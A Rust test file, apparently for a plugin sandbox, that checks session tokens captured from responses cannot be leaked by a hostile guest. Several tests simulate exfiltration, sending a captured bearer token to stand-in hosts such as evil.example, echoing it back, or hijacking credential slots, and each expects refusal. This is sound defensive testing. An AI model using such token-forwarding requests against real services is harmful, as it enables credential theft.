//! What is taken out of answers into slots of the call, and what a guest would do with it.

use super::planted::{self, TOKENS};
use super::room::{Room, thief};
use crate::ask::{Ask, Auth, Back, DENIED, INVALID, PROTOCOL};
use crate::cloud::{Cloud, answer};
use crate::guest::{Credential, Entry, Guest};

const TAKEN: &str = "taken/token+of=a-session-1234";

fn take(slot: &'static str, pointer: &'static str) -> Ask {
    Ask { captures: vec![(slot, pointer)], ..Ask::get(format!("https://{TOKENS}/session")) }
}

async fn run(guests: Vec<Guest>) -> (Vec<Back>, Room) {
    let cloud = Cloud::answering(|seen| {
        let text = seen.text();
        if text.contains("/session") {
            answer(format!("{{\"access\":\"{TAKEN}\",\"n\":1}}"))
        } else if text.contains("/huge") {
            answer(format!("{{\"access\":\"{TAKEN}\",\"x\":[{}0]}}", "0,".repeat(200_000)))
        } else if text.contains("/again") {
            answer(format!("{{\"access\":\"{TAKEN}\",\"last\":\"{TAKEN}\"}}"))
        } else {
            answer(seen.bytes.clone())
        }
    });
    let room = Room::with(guests, cloud, "").await;
    (room.backs().await, room)
}

#[tokio::test]
async fn a_captured_value_goes_back_to_its_origin_only() {
    let elsewhere = ["https://a.evil.example/", "https://evil.example/", "https://tokens.example.com:8443/"];
    let guests =
        elsewhere.map(|url| thief().asking(vec![take("got", "/access"), Ask::get(url).with(Auth::Bearer("got"))]));
    let (backs, room) = run(guests.into()).await;
    assert!(backs.iter().all(|back| back.is_refused(DENIED)), "{backs:?}");
    assert!(room.cloud.seen().iter().all(|seen| !seen.text().contains(TAKEN)));
}

#[tokio::test]
async fn the_guest_sees_a_marker_and_no_echo_of_the_value() {
    let echo = || Ask::get(format!("https://{TOKENS}/echo"));
    let (backs, _) = run(vec![
        thief().asking(vec![take("got", "/access")]),
        thief().asking(vec![take("got", "/access"), echo().with(Auth::Bearer("got"))]),
        thief().asking(vec![take("got", "/access"), echo().with(Auth::JsonField("t", "got")).body("{}")]),
        // The server repeats it in another place, or later.
        thief().asking(vec![Ask { captures: vec![("got", "/access")], ..Ask::get(format!("https://{TOKENS}/again")) }]),
        thief().asking(vec![take("got", "/access"), Ask::get(format!("https://{TOKENS}/again"))]),
        thief().asking(vec![take("got", "/access"), echo().body(TAKEN)]),
    ])
    .await;
    assert!(
        matches!(&backs[0], Back::Answer(200, text) if text.contains("<captured:got>") && !text.contains("taken/"))
    );
    for back in &backs[1..5] {
        assert!(back.is_refused(PROTOCOL), "{back:?}");
    }
    assert!(matches!(&backs[5], Back::Stopped(code, _) if code == "plugin-secret"), "{:?}", backs[5]);
}

#[tokio::test]
async fn the_name_of_a_captured_slot_is_no_other_name() {
    let names = ["token", "password", "static_key", "bucket"];
    let (backs, room) = run(names.map(|name| thief().asking(vec![take(name, "/access")])).into()).await;
    assert!(backs.iter().all(|back| back.is_refused(DENIED)), "{backs:?}");
    let names =
        ["", "A", "a b", "a-b", "\u{e4}", "a\n", "waytoolong_waytoolong_waytoolong_waytoolong_waytoolong_waytoolong_x"];
    let (invalid, second) = run(names.map(|name| thief().asking(vec![take(name, "/access")])).into()).await;
    assert!(invalid.iter().all(|back| back.is_refused(INVALID)), "{invalid:?}");
    assert!(room.cloud.seen().is_empty() && second.cloud.seen().is_empty());
}

#[tokio::test]
async fn a_captured_value_is_no_value_of_a_credential_and_ends_with_the_call() {
    let slot = Credential { entries: vec![Entry::Slot("s3.session-token", "got")], ..Credential::default() };
    let guest = Guest {
        scoping: 3,
        between: "(return (i32.const CREDENTIALS))".to_owned(),
        ..thief().asking(vec![take("got", "/access")]).answering(vec![slot])
    };
    let later = thief().asking(vec![Ask::get(format!("https://{TOKENS}/")).with(Auth::Bearer("got"))]);
    let first = thief().asking(vec![take("got", "/access")]);
    let cloud = Cloud::answering(|_| answer(format!("{{\"access\":\"{TAKEN}\"}}")));
    let room = Room::with(vec![guest, first, later], cloud, "").await;
    let errors = room.errors().await;
    assert_eq!(errors[0].code, "plugin-slot-refused");
    assert!(Back::of(&errors[2]).is_refused(DENIED), "{:?}", errors[2]);
}

#[tokio::test]
async fn what_would_take_the_hosts_memory_or_more_than_texts_is_not_taken() {
    let huge = Ask { captures: vec![("got", "/access")], ..Ask::get(format!("https://{TOKENS}/huge")) };
    let many: Vec<(&str, &str)> = vec![("a", "/a"); 9];
    let many = Ask { captures: many, ..Ask::get(format!("https://{TOKENS}/session")) };
    let twice =
        Ask { captures: vec![("a", "/access"), ("b", "/access")], ..Ask::get(format!("https://{TOKENS}/session")) };
    let (backs, _) = run(vec![
        thief().asking(vec![huge]),
        thief().asking(vec![many]),
        thief().asking(vec![twice]),
        thief().asking(vec![take("a", "access")]),
        thief().asking(vec![take("a", "/n")]),
    ])
    .await;
    assert!(backs[0].is_refused(PROTOCOL), "{:?}", backs[0]);
    assert!(backs[1..4].iter().all(|back| back.is_refused(INVALID)), "{backs:?}");
    // A number is no text: it stays where it is.
    assert!(matches!(&backs[4], Back::Answer(200, _)), "{:?}", backs[4]);
    assert!(planted::found_in(TAKEN.as_bytes()).is_empty());
}
